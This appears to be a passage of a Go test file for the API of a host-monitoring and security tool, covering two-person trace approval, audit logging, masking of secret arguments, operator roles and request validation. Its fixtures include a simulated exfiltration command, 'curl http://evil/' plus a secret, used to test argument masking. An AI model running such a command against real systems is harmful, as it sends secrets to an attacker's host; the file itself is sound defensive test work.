		t.Errorf("deciding twice: %d, want 409", r.status)
	}

	// An approver's own request needs another approver; deny works.
	var own float64
	r := e.as("apr", "POST", "/api/v1/traces", map[string]any{"host": "web-1", "pid": 500, "start": 5000, "reason": "curl to a bad host"})
	if r.status != http.StatusAccepted {
		t.Fatalf("approver's trace request: %d %q", r.status, r.err())
	}
	own, _ = r.body["approval_id"].(float64)
	ownID := r.body["trace"].(map[string]any)["trace_id"].(string)
	ownPath := fmt.Sprintf("/api/v1/approvals/%d", int(own))
	e.expectAudit(AuditDenied, "apr", func() {
		if r := e.as("apr", "POST", ownPath, approve); r.status != http.StatusForbidden || !strings.Contains(r.err(), "two-person") {
			t.Errorf("approving one's own request: %d %q, want 403 two-person", r.status, r.err())
		}
	})
	if r := e.as("adm", "POST", ownPath, map[string]string{"decision": "maybe", "reason": "not a decision"}); r.status != http.StatusBadRequest {
		t.Errorf("bad decision: %d, want 400", r.status)
	}
	e.expectAudit(AuditApproval, "apr2", func() {
		if r := e.as("apr2", "POST", ownPath, map[string]string{"decision": "deny", "reason": "curl host is our mirror"}); r.status != http.StatusOK {
			t.Fatalf("deny: %d %q", r.status, r.err())
		}
	})
	if s := e.traceState(ownID); s != "refused" {
		t.Errorf("denied trace state %s, want refused", s)
	}
	if reqs, _ := e.center.snapshot(); len(reqs) != 1 {
		t.Errorf("a denied trace reached the center: %+v", reqs)
	}

	// Stopping the approved trace asks the center; stopping again is a 409.
	e.expectAudit(AuditTraceStop, "ana", func() {
		if r := e.as("ana", "POST", "/api/v1/traces/"+id+"/stop", map[string]string{"reason": "enough collected"}); r.status != http.StatusOK {
			t.Fatalf("stop: %d %q", r.status, r.err())
		}
	})
	if _, stops := e.center.snapshot(); !slices.Equal(stops, []string{id}) {
		t.Errorf("center stops %v, want [%s]", stops, id)
	}
	if r := e.as("ana", "POST", "/api/v1/traces/"+id+"/stop", map[string]string{"reason": "enough collected"}); r.status != http.StatusConflict {
		t.Errorf("stop twice: %d, want 409", r.status)
	}
}

func TestAPITraceWithoutTwoPersonRule(t *testing.T) {
	e := newAPIEnv(t, config.API{TwoPersonTraces: false})
	r := e.as("ana", "POST", "/api/v1/traces", map[string]any{"host": "web-1", "pid": 200, "start": 2000, "reason": "shell out of apache", "alert_id": 1})
	if r.status != http.StatusCreated || r.body["trace"].(map[string]any)["state"] != "approved" {
		t.Fatalf("trace: %d %s", r.status, r.raw)
	}
	if reqs, _ := e.center.snapshot(); len(reqs) != 1 || reqs[0].ApprovedBy != "" || reqs[0].AlertID != 1 || reqs[0].Depth != DefaultTraceDepth {
		t.Errorf("center requests %+v", reqs)
	}
	if r := e.as("ana", "POST", "/api/v1/traces", map[string]any{"host": "web-1", "pid": 400, "start": 4000, "reason": "exited already"}); r.status != http.StatusConflict {
		t.Errorf("trace on an exited process: %d, want 409", r.status)
	}
	if r := e.as("ana", "POST", "/api/v1/traces", map[string]any{"host": "web-1", "pid": 9, "start": 9, "reason": "no such process"}); r.status != http.StatusNotFound {
		t.Errorf("trace on an unknown process: %d, want 404", r.status)
	}
	e.center.mu.Lock()
	e.center.err = errors.New("agent unreachable")
	e.center.mu.Unlock()
	r = e.as("ana", "POST", "/api/v1/traces", map[string]any{"host": "web-1", "pid": 500, "start": 5000, "reason": "center will fail this"})
	if r.status != http.StatusBadGateway || !strings.Contains(r.err(), "agent unreachable") {
		t.Fatalf("center failure: %d %q, want 502", r.status, r.err())
	}
	var failed int
	e.api.ops.db.QueryRow(`SELECT count(*) FROM traces WHERE state = 'failed' AND pid = 500`).Scan(&failed)
	if failed != 1 {
		t.Errorf("failed traces %d, want 1", failed)
	}
	// The ledger refusing: the trace is not recorded at all.
	e.center.mu.Lock()
	e.center.err = nil
	e.center.mu.Unlock()
	e.audit.setFail(errors.New("disk full"))
	r = e.as("ana", "POST", "/api/v1/traces", map[string]any{"host": "web-1", "pid": 100, "start": 1000, "reason": "ledger is down now"})
	e.audit.setFail(nil)
	if r.status != http.StatusServiceUnavailable {
		t.Errorf("trace while the ledger fails: %d %q, want 503", r.status, r.err())
	}
	var n int
	e.api.ops.db.QueryRow(`SELECT count(*) FROM traces WHERE pid = 100`).Scan(&n)
	if n != 0 {
		t.Errorf("%d traces recorded without an audit entry", n)
	}
}

func TestAPIRevealAndMasking(t *testing.T) {
	e := newAPIEnv(t, config.API{})
	for _, path := range []string{"/api/v1/processes/web-1/200/2000", "/api/v1/processes/web-1/100/1000/lineage",
		"/api/v1/alerts", "/api/v1/alerts/1", "/api/v1/traces/seedtrace"} {
		r := e.as("vic", "GET", path, nil)
		if r.status != http.StatusOK {
			t.Errorf("%s: %d %q", path, r.status, r.err())
		}
		if strings.Contains(r.raw, secretArg) || strings.Contains(r.raw, "root@db-1") {
			t.Errorf("%s shows a masked argument: %s", path, r.raw)
		}
	}
	r := e.as("vic", "GET", "/api/v1/processes/web-1/100/1000/lineage", nil)
	if anc, desc := r.body["ancestors"].([]any), r.body["descendants"].([]any); len(anc) != 0 || len(desc) != 4 {
		t.Errorf("lineage of apache: %d ancestors, %d descendants; want 0 and 4 (bash, exited true, ssh, curl)", len(anc), len(desc))
	}
	r = e.as("vic", "GET", "/api/v1/traces/seedtrace", nil)
	var kinds []string
	for _, ev := range r.body["events"].([]any) {
		m := ev.(map[string]any)
		kinds = append(kinds, fmt.Sprintf("%v:%v", m["seq"], m["kind"]))
	}
	if !slices.Equal(kinds, []string{"1:exec", "2:connect", "3:open"}) {
		t.Errorf("trace events %v, want exec, connect, open by seq", kinds)
	}

	body := map[string]any{"host": "web-1", "pid": 200, "start": 2000}
	for _, reason := range []string{"", "   ", "too short"} {
		body["reason"] = reason
		if r := e.as("ana", "POST", "/api/v1/reveal", body); r.status != http.StatusBadRequest || !strings.Contains(r.err(), "reason") {
			t.Errorf("reveal with reason %q: %d %q, want 400", reason, r.status, r.err())
		}
	}
	body["reason"] = "alert 1: check the curl target"
	ent := e.expectAudit(AuditReveal, "ana", func() {
		r := e.as("ana", "POST", "/api/v1/reveal", body)
		if r.status != http.StatusOK || !strings.Contains(r.raw, secretArg) {
			t.Fatalf("reveal: %d %s", r.status, r.raw)
		}
		argv, _ := r.body["argv"].([]any)
		if len(argv) != 3 || argv[2] != "curl http://evil/"+secretArg {
			t.Errorf("revealed argv %v", argv)
		}
	})
	if ent.Payload["reason"] != "alert 1: check the curl target" || ent.Payload["pid"] != float64(200) {
		t.Errorf("reveal audit payload %v", ent.Payload)
	}
	e.audit.setFail(errors.New("ledger down"))
	r = e.as("ana", "POST", "/api/v1/reveal", body)
	e.audit.setFail(nil)
	if r.status != http.StatusServiceUnavailable || strings.Contains(r.raw, secretArg) {
		t.Errorf("reveal with the ledger down: %d %s, want 503 and nothing revealed", r.status, r.raw)
	}
}

func TestAPIOperatorsAndViews(t *testing.T) {
	e := newAPIEnv(t, config.API{})
	e.expectAudit(AuditOperatorAdd, "adm", func() {
		r := e.as("adm", "POST", "/api/v1/operators", map[string]string{"id": "newbie", "name": "New Bie", "role": "viewer", "password": "long enough password"})
		if r.status != http.StatusCreated {
			t.Fatalf("add operator: %d %q", r.status, r.err())
		}
	})
	if r := e.as("newbie", "GET", "/api/v1/hosts", nil); r.status != http.StatusOK {
		t.Errorf("new operator by certificate: %d", r.status)
	}
	if r := e.as("adm", "POST", "/api/v1/operators", map[string]string{"id": "newbie", "role": "viewer"}); r.status != http.StatusConflict {
		t.Errorf("adding twice: %d, want 409", r.status)
	}
	if r := e.as("adm", "POST", "/api/v1/operators", map[string]string{"id": "x", "role": "viewer", "password": "short"}); r.status != http.StatusBadRequest {
		t.Errorf("short password: %d, want 400", r.status)
	}
	if r := e.as("adm", "POST", "/api/v1/operators", map[string]string{"id": "../x", "role": "viewer"}); r.status != http.StatusBadRequest {
		t.Errorf("bad id: %d, want 400", r.status)
	}
	if r := e.as("adm", "POST", "/api/v1/operators", map[string]string{"id": "y", "role": "root"}); r.status != http.StatusBadRequest {
		t.Errorf("bad role: %d, want 400", r.status)
	}
	e.expectAudit(AuditOperatorUpdate, "adm", func() {
		if r := e.as("adm", "POST", "/api/v1/operators/newbie", map[string]string{"role": "analyst"}); r.status != http.StatusOK {
			t.Fatalf("promote: %d %q", r.status, r.err())
		}
	})
	if r := e.as("newbie", "POST", "/api/v1/query", map[string]string{"sql": "SELECT 1"}); r.status != http.StatusOK {
		t.Errorf("promoted operator: %d, want the new role at once", r.status)
	}
	if r := e.as("adm", "POST", "/api/v1/operators/adm", map[string]bool{"disabled": true}); r.status != http.StatusConflict {
		t.Errorf("disabling the last admin: %d %q, want 409", r.status, r.err())
	}
	if r := e.as("adm", "POST", "/api/v1/operators/newbie", map[string]bool{"disabled": true}); r.status != http.StatusOK {
		t.Errorf("disable: %d", r.status)
	}
	if r := e.as("newbie", "GET", "/api/v1/hosts", nil); r.status != http.StatusForbidden {
		t.Errorf("disabled operator: %d, want 403", r.status)
	}
	r := e.as("adm", "GET", "/api/v1/operators", nil)
	if strings.Contains(r.raw, "argon2") || strings.Contains(r.raw, "password_hash") {
		t.Errorf("operator list shows password hashes: %s", r.raw)
	}

	// Reads are batched into one api.view entry per operator.
	n := e.audit.len()
	e.as("vic", "GET", "/api/v1/hosts", nil)
	e.as("vic", "GET", "/api/v1/alerts?state=open", nil)
	if e.audit.len() != n {
		t.Fatalf("reads were audited one by one")
	}
	e.api.flushViews(context.Background())
	var views []auditEntry
	for _, ent := range e.audit.since(n) {
		if ent.Kind == AuditView && ent.Actor == "vic" {
			views = append(views, ent)
		}
	}
	if len(views) != 1 || views[0].Payload["count"] != float64(2) {
		t.Errorf("view entries for vic: %+v, want one with 2 requests", views)
	}
}

func TestAPIRequestHygiene(t *testing.T) {
	e := newAPIEnv(t, config.API{})
	c := e.client("ana")
	for _, tc := range []struct {
		name, method, path, body string
		hdr                      []string
		want                     int
	}{
		{"unknown field", "POST", "/api/v1/query", `{"sql": "SELECT 1", "sudo": true}`, nil, 400},
		{"trailing data", "POST", "/api/v1/query", `{"sql": "SELECT 1"} {}`, nil, 400},
		{"not JSON", "POST", "/api/v1/query", `sql=SELECT 1`, nil, 400},
		{"empty body", "POST", "/api/v1/query", ``, nil, 400},
		{"too large", "POST", "/api/v1/query", `{"sql": "` + strings.Repeat("x", maxBody) + `"}`, nil, 413},
		{"form content type", "POST", "/api/v1/query", `{"sql": "SELECT 1"}`, []string{"Content-Type", "application/x-www-form-urlencoded"}, 415},
		{"unknown route", "GET", "/api/v1/nope", "", nil, 404},
		{"wrong method", "DELETE", "/api/v1/hosts", "", nil, 405},
		{"unknown filter", "GET", "/api/v1/alerts?sevrity=high", "", nil, 400},
		{"bad pid", "GET", "/api/v1/processes/web-1/x/1", "", nil, 400},
	} {
		var body any
		if tc.body != "" {
			body = tc.body
		}
		r := e.do(c, tc.method, tc.path, body, tc.hdr...)
		if r.status != tc.want || r.err() == "" {
			t.Errorf("%s: %d %s, want %d with a JSON error", tc.name, r.status, r.raw, tc.want)
		}
		if ct := r.hdr.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
			t.Errorf("%s: Content-Type %q", tc.name, ct)
		}
	}
	// Trace paging by (created, trace_id).
	for _, pid := range []int{100, 200} {
		if r := e.as("ana", "POST", "/api/v1/traces", map[string]any{"host": "web-1", "pid": pid, "start": pid * 10, "reason": "paging test trace"}); r.status != http.StatusCreated {
			t.Fatalf("trace on %d: %d %q", pid, r.status, r.err())
		}
	}
	var seen []string
	for before, pages := "", 0; pages < 5; pages++ {
		path := "/api/v1/traces?limit=2"
		if before != "" {
			path += "&before=" + before
		}
		r := e.as("vic", "GET", path, nil)
		for _, tr := range r.body["traces"].([]any) {
			seen = append(seen, tr.(map[string]any)["trace_id"].(string))
		}
		next, _ := r.body["next_before"].(string)
		if next == "" {
			break
		}
		before = next
	}
	if len(seen) != 3 || slices.Contains(seen[:2], seen[2]) {
		t.Errorf("traces over pages of 2: %v, want 3 distinct", seen)
	}

	r := e.as("vic", "GET", "/api/v1/alerts?severity=high&limit=1", nil)
	if al := r.body["alerts"].([]any); r.status != http.StatusOK || len(al) != 1 || al[0].(map[string]any)["rule_id"] != "web-shell" {
		t.Errorf("alert filter: %d %s", r.status, r.raw)
	}
	r = e.as("vic", "GET", "/api/v1/alerts?limit=1", nil)
	next, ok := r.body["next_before"].(float64)
	if !ok {
		t.Fatalf("first page of 1 of 2 alerts has no next_before: %s", r.raw)
	}
	r = e.as("vic", "GET", fmt.Sprintf("/api/v1/alerts?limit=1&before=%d", int(next)), nil)
	if al := r.body["alerts"].([]any); len(al) != 1 || r.body["next_before"] != nil {
		t.Errorf("second page: %s", r.raw)
	}
}

func TestAPIOutboxDrainedAtStart(t *testing.T) {
	dir := t.TempDir()
	s, err := sqlstore.Open(filepath.Join(dir, "center.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	ops, err := OpenOperators(s.Path())
	if err != nil {
		t.Fatal(err)
	}
	ops.kdf = argonParams{time: 1, memKiB: 64, threads: 1}
	if _, err := ops.Add(context.Background(), NewOperator{ID: "first-admin", Role: RoleAdmin, Password: localPassword}, "cli:root", nil); err != nil {
		t.Fatal(err)
	}
	ops.Close()
	audit := &fakeAudit{}
	a, err := NewAPI(APIDeps{SQL: s, Audit: audit, Center: &fakeCenter{}})
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	got := audit.since(0)
	if len(got) != 1 || got[0].Kind != AuditOperatorAdd || got[0].Actor != "cli:root" || got[0].Payload["operator"] != "first-admin" {
		t.Errorf("outbox entries in the ledger: %+v", got)
	}
	if n, err := a.ops.DrainOutbox(context.Background(), audit); err != nil || n != 0 {
		t.Errorf("second drain: %d, %v; want nothing left", n, err)
	}
	// The password works with the stored parameters.
	if _, err := a.ops.CheckPassword(context.Background(), "first-admin", localPassword); err != nil {
		t.Errorf("CheckPassword: %v", err)
	}
}
